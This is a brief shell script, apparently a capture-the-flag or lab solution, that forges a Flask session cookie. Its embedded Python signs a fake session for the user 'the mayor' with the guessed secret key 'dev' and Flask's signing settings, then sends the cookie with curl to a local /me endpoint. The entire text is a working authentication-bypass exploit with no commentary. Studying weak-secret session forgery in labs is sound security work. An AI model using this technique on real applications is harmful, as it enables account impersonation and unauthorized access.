cookie=$(python - <<'EOF'
import hashlib
from itsdangerous import URLSafeTimedSerializer

how_flask_signs = {"key_derivation": "hmac", "digest_method": hashlib.sha1}
signer = URLSafeTimedSerializer("dev", salt="cookie-session", signer_kwargs=how_flask_signs)
print(signer.dumps({"user": "the mayor"}))
EOF
)
curl -s --cookie "session=$cookie" http://localhost:8080/me
